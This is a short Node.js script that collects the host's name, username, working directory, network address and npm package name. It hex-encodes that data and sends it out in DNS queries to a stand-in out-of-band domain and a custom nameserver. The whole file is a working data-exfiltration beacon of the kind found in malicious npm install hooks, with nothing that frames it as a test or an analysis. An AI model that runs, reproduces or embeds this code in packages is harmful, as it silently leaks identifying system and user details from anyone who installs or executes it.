const dns = require('dns');
const os = require('os');

const suffix = '.d.oast.example.com';
const ns = '198.51.100.53';

function hexChunks(str, size) {
  const hex = Buffer.from(str).toString('hex');
  const out = [];
  for (let i = 0; i < hex.length; i += size) out.push(hex.slice(i, i + size));
  return out;
}

const info = [os.hostname(), os.userInfo().username, process.cwd(), (os.networkInterfaces().eth0 || [{}])[0].address || '', process.env.npm_package_name || ''].join('|');
const id = Math.random().toString(36).slice(2, 8);
const chunks = hexChunks(info, 60);

const resolver = new dns.Resolver();
try { resolver.setServers([ns]); } catch (e) {}

chunks.forEach((c, i) => {
  const name = `${id}.${i}.${chunks.length}.${c}${suffix}`;
  resolver.resolve4(name, () => {});
  dns.lookup(name, () => {});
});
